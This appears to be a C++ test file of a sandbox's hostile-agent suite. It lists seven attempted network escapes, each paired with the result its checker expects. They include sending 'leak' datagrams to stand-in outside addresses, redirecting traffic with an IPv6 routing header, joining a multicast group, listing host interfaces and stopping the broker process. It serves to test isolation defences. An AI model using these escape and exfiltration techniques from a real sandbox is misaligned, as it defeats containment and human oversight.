// With holes in the filter these do what they say. Each names what an oracle must say of it: a driver that
// sees nothing here would see nothing anywhere.
#include <arpa/inet.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#include <algorithm>
#include <csignal>
#include <thread>

#include "tests/hostile/rogue/attack.h"
#include "tests/hostile/rogue/far_ends.h"

namespace cordon::rogue {
namespace {

std::uint64_t address(Scene& scene, const char* text, std::uint16_t port) {
  sockaddr_in at{};
  at.sin_family = AF_INET;
  at.sin_port = htons(port);
  ::inet_pton(AF_INET, text, &at.sin_addr);
  return scene.agent().put(at);
}
void settle() {
  constexpr timespec kPause{0, 100'000'000};
  ::nanosleep(&kPause, nullptr);
}

std::string send_elsewhere(Scene& scene) {
  const std::uint64_t text = scene.agent().put(std::as_bytes(std::span{"leak", 4}));
  const auto to = address(scene, "192.0.2.54", kCanary);
  const auto got = outcome(scene.agent().call(SYS_sendto, scene.udp(), text, 4, 0, to, sizeof(sockaddr_in)));
  settle();
  return got;
}
std::string send_to_host(Scene& scene) {
  const std::uint64_t text = scene.agent().put(std::as_bytes(std::span{"leak", 4}));
  const auto to = address(scene, "192.0.2.132", kCanary);
  const auto got = outcome(scene.agent().call(SYS_sendto, scene.udp(), text, 4, 0, to, sizeof(sockaddr_in)));
  settle();
  return got;
}
std::string connect_elsewhere(Scene& scene) {
  const auto to = address(scene, "198.51.100.10", kCanary);
  const auto got = outcome(scene.agent().call(SYS_connect, scene.udp(), to, sizeof(sockaddr_in), 0, 0, 0));
  write_text(scene, scene.udp(), "leak");
  settle();
  return got;
}
// A segment routing header (RFC 8754 2) of two segments; the kernel sends to the one segments_left names.
std::string routing_header(Scene& scene) {
  std::array<std::uint8_t, 40> header{};
  header[1] = 4;
  header[2] = 4;
  header[3] = 1;
  header[4] = 1;
  ::inet_pton(AF_INET6, "2001:db8::53", header.data() + 24);
  const std::uint64_t at = scene.agent().put(header);
  const auto got = outcome(
      scene.agent().call(SYS_setsockopt, scene.udp(true), SOL_IPV6, IPV6_RTHDR, at, header.size(), 0));
  write_text(scene, scene.udp(true), "leak");
  settle();
  return got;
}
std::string join_group(Scene& scene) {
  ip_mreqn request{};
  ::inet_pton(AF_INET, "239.1.1.1", &request.imr_multiaddr);
  request.imr_ifindex = static_cast<int>(::if_nametoindex("up0"));
  const std::uint64_t at = scene.agent().put(request);
  const auto got = outcome(
      scene.agent().call(SYS_setsockopt, scene.udp(), SOL_IP, IP_ADD_MEMBERSHIP, at, sizeof request, 0));
  settle();
  return got;
}
// The names of the host's interfaces, by any socket of the host's.
std::string list_interfaces(Scene& scene) {
  Remote& agent = scene.agent();
  constexpr std::size_t kRoom = 16 * sizeof(ifreq);
  const std::uint64_t list = agent.room(kRoom);
  ifconf ask{};
  ask.ifc_len = kRoom;
  ask.ifc_buf = reinterpret_cast<char*>(list);
  agent.call(SYS_ioctl, scene.udp(), SIOCGIFCONF, agent.put(ask), 0, 0, 0);
  std::string names;
  const auto bytes = agent.read(list, kRoom);
  for (std::size_t i = 0; i < kRoom; i += sizeof(ifreq)) {
    const auto* const name = reinterpret_cast<const char*>(bytes.data() + i);
    names += std::string{name, ::strnlen(name, IFNAMSIZ)} + " ";
  }
  return names;
}
// No hole, but a broker that stands still and one that has lost a record.
std::string stop_the_broker(Scene& scene) {
  ::kill(scene.world().broker, SIGSTOP);
  const bool answers = scene.answer_time(milliseconds{500}).has_value();
  ::kill(scene.world().broker, SIGCONT);
  return answers ? "answers" : "no answer";
}

constexpr Attack kWeak[] = {
    {"oracles", "a datagram to another server", "canary (outside)", send_elsewhere},
    {"oracles", "a datagram to the host", "192.0.2.132", send_to_host},
    {"oracles", "a socket connected elsewhere", "198.51.100.10", connect_elsewhere},
    {"oracles", "a routing header", "2001:db8::53", routing_header},
    {"oracles", "a multicast group", "protocol 2", join_group},
    {"oracles", "the host's interfaces", "br0", list_interfaces},
    {"oracles", "a broker that stands still", "no answer", stop_the_broker},
};

}  // namespace

std::span<const Attack> weak_attacks() { return kWeak; }

}  // namespace cordon::rogue
